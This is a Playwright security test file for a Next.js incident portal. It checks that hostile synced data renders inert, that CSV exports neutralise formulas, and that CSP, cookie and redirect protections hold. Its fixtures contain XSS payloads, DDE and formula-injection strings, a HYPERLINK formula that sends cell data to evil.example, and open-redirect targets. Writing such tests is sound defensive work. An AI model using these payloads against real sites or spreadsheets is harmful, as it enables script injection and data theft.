import { readFileSync } from "node:fs";
import { expect, incidentRows, partnerUsers, signIn, test } from "./fixtures.ts";

/**
 * Hostile data from a customer's tenant, seeded through the simulator and synced like any other incident: pages
 * must render it inert and exports must neutralise spreadsheet formulas.
 */
const MARK = "pwn" + Math.random().toString(36).slice(2, 8);
const hostile = {
  title: `<script>window.${MARK}=1</script><img src=x onerror="window.${MARK}=2" id="${MARK}">`,
  comments: [`<iframe id="${MARK}-frame" src="javascript:alert(1)"></iframe>`, "=cmd|' /C calc'!A0", `bidi\u202Eevil\u0007bell`],
  tags: [`<b id="${MARK}-tag">tag</b>`],
  alertTitle: `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
  filePath: `C:\\Users\\<svg onload="window.${MARK}=3">\\evil.exe`,
  processCommandLine: `powershell -enc ${"A".repeat(1_048_000)}`,
  url: "javascript:alert(document.cookie)",
  accountName: "@SUM(1+1)*cmd|' /C calc'!A0",
  severity: "High" as const,
};

test("hostile incident text renders inert in every view and exports neutralise formulas", async ({ page, sim, data }) => {
  // A megabyte synced from two APIs, six pages and a download: past 30 s when the machine's two cores are shared.
  test.slow();
  const { admin } = await partnerUsers(sim);
  const c = await data.consentedCustomer("Hostile");
  await sim.injectIncident(c.tenantId, hostile);
  await data.syncCustomer(c.id);
  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await signIn(page, admin.upn);

  const injected = async () =>
    page.evaluate(
      (mark) => ({
        flag: (window as unknown as Record<string, unknown>)[mark] ?? null,
        elements: document.querySelectorAll(`[id^="${mark}"]`).length,
        // An injected <script> element would hold exactly the payload (Next's own RSC scripts carry it as escaped data).
        scripts: [...document.scripts].filter((s) => s.textContent?.trim().startsWith(`window.${mark}`)).length,
      }),
      MARK,
    );

  await page.goto(`/incidents?customer=${c.id}&range=all&q=script`);
  await expect(incidentRows(page)).toHaveCount(1);
  await expect(incidentRows(page)).toContainText("<script>");
  expect(await injected()).toEqual({ flag: null, elements: 0, scripts: 0 });

  await incidentRows(page).getByRole("link").first().click();
  await expect(page.getByTestId("incident-title").filter({ visible: true })).toContainText("<script>");
  await expect(page.getByText("=cmd|' /C calc'!A0").first()).toBeVisible();
  // Control and bidi characters are shown, not obeyed; the megabyte command line is cut with a note.
  await expect(page.locator("body")).toContainText("<U+202E>");
  await expect(page.locator("body")).toContainText("more characters not shown");
  // It was also cut when stored (lib/shared/caps.ts), and the page says so.
  await expect(page.getByTestId("cut-at-ingest").first()).toContainText(/cut when stored: [\d,]+ characters dropped/);
  // No customer-sourced javascript: URL becomes a link.
  expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
  expect(await injected()).toEqual({ flag: null, elements: 0, scripts: 0 });

  await page.goto(`/alerts?customer=${c.id}&range=all&q=HYPERLINK`);
  await expect(page.getByTestId("alert-row").first()).toBeVisible();
  await page.getByTestId("alert-row").first().getByRole("link").first().click();
  await expect(page.locator("body")).toContainText("=HYPERLINK(");
  expect(await injected()).toEqual({ flag: null, elements: 0, scripts: 0 });

  await page.goto(`/overview`);
  await page.goto(`/customers/${c.id}`);
  expect(await injected()).toEqual({ flag: null, elements: 0, scripts: 0 });
  expect(dialogs).toEqual([]);

  await page.goto(`/alerts?customer=${c.id}&range=all&q=HYPERLINK`);
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("export-csv").click()]);
  const csv = readFileSync((await download.path())!, "utf8");
  expect(csv).toContain(`"'=HYPERLINK(`);
  expect(csv).not.toMatch(/(^|,)"=/m);
});

test("a title far past the limit is cut when stored and every view says so", async ({ page, sim, data }) => {
  // 200 kB, not 1 MB (tests/integration/sync.test.ts stores a 1 MB one): this incident becomes the newest row of the
  // cross-tenant queue, and later specs that open the first row would refresh a megabyte from Microsoft.
  test.slow(); // a sync and three pages: past 30 s when the machine's two cores are shared
  const c = await data.consentedCustomer("Long title");
  const { admin } = await partnerUsers(sim);
  await sim.injectIncident(c.tenantId, { title: `Long title ${"T".repeat(200_000)}` });
  await data.syncCustomer(c.id);
  await signIn(page, admin.upn);
  await page.goto(`/incidents?customer=${c.id}&range=all&q=Long+title`);
  const row = incidentRows(page);
  await expect(row).toHaveCount(1);
  await expect(row.getByTestId("cut-at-ingest")).toBeVisible();
  await row.getByRole("link").first().click();
  // 200,011 characters arrived; 1,000 were kept (marker included), the rest is named.
  await expect(page.getByTestId("incident-title").filter({ visible: true }).getByTestId("cut-at-ingest")).toContainText(
    /cut when stored: 199,0\d\d characters dropped/,
  );
});

test("every response carries a CSP with frame-ancestors 'none' and no server banner; session cookies are HttpOnly", async ({ page, request, sim }) => {
  for (const path of ["/signin", "/api/auth/csrf", "/overview", "/no-such-page"]) {
    const res = await request.get(path, { maxRedirects: 0 });
    const h = res.headers();
    expect(h["content-security-policy"], path).toContain("frame-ancestors 'none'");
    expect(h["content-security-policy"], path).toContain("object-src 'none'");
    expect(h["x-frame-options"], path).toBe("DENY");
    expect(h["x-content-type-options"], path).toBe("nosniff");
    expect(h["x-powered-by"], path).toBeUndefined();
    expect(h["server"] ?? "", path).not.toMatch(/\d/);
  }
  expect((await request.get("/api/auth/csrf")).headers()["content-security-policy"]).toContain("default-src 'none'");
  const { admin } = await partnerUsers(sim);
  await signIn(page, admin.upn);
  const session = (await page.context().cookies()).find((c) => c.name.endsWith("next-auth.session-token"));
  expect(session?.httpOnly).toBe(true);
  expect(session?.sameSite).toBe("Lax");
});

test("pages allow only the scripts they were rendered with: a fresh nonce per response, on every script tag", async ({ page, sim }) => {
  const { admin } = await partnerUsers(sim);
  await signIn(page, admin.upn);
  const nonces: string[] = [];
  for (const path of ["/overview", "/incidents", "/overview"]) {
    const res = await page.request.get(path);
    const scriptSrc = res
      .headers()
      ["content-security-policy"]!.split("; ")
      .find((d) => d.startsWith("script-src"))!;
    expect(scriptSrc, path).toMatch(/^script-src 'self' 'nonce-[A-Za-z0-9+/]{22}==' 'strict-dynamic'$/);
    const nonce = /'nonce-([^']+)'/.exec(scriptSrc)![1]!;
    nonces.push(nonce);
    const tags = [...(await res.text()).matchAll(/<script\b[^>]*>/g)].map((m) => m[0]);
    expect(tags.length, path).toBeGreaterThan(0);
    for (const tag of tags) expect(tag, path).toContain(`nonce="${nonce}"`);
  }
  expect(new Set(nonces).size).toBe(nonces.length);
  // The browser enforces it: markup that slipped into a page (a stored XSS past React's escaping) cannot run script,
  // while the page's own nonce-bearing scripts do (Next's inline bootstrap defines __next_f).
  await page.route("**/overview", async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace("</body>", '<script>window.__injected = true</script><img src=x onerror="window.__injected = true"></body>');
    await route.fulfill({ response, body: html });
  });
  await page.goto("/overview");
  await page.waitForFunction(() => "__next_f" in window);
  expect(await page.content()).toContain("<script>window.__injected = true</script>");
  expect(await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected ?? false)).toBe(false);
});

test("redirects never leave the portal: consent callback and sign-in ignore foreign targets", async ({ page, request, sim }) => {
  const appUrl = process.env.E2E_APP_URL!;
  for (const extra of ["redirect_uri=https%3A%2F%2Fevil.example%2F", "next=%2F%2Fevil.example", "returnUrl=javascript%3Aalert(1)"]) {
    const res = await request.get(`/consent/callback?admin_consent=True&tenant=00000000-0000-4000-8000-000000000001&state=x&${extra}`, { maxRedirects: 0 });
    expect(res.status()).toBe(303);
    expect(res.headers()["location"]).toMatch(new RegExp(`^${appUrl}/consent/outcome/`));
  }
  const { admin } = await partnerUsers(sim);
  await page.goto(`/signin?callbackUrl=${encodeURIComponent("https://evil.example/")}`);
  await page.getByRole("button", { name: "Sign in with Microsoft" }).click();
  await page.getByRole("button", { name: `Sign in as ${admin.upn}` }).click();
  await expect(page).toHaveURL(new RegExp(`^${appUrl}/`));
  const res = await request.get(`/api/auth/signout?callbackUrl=${encodeURIComponent("https://evil.example/")}`, { maxRedirects: 0 });
  expect(res.headers()["location"] ?? "").not.toContain("evil.example");
});
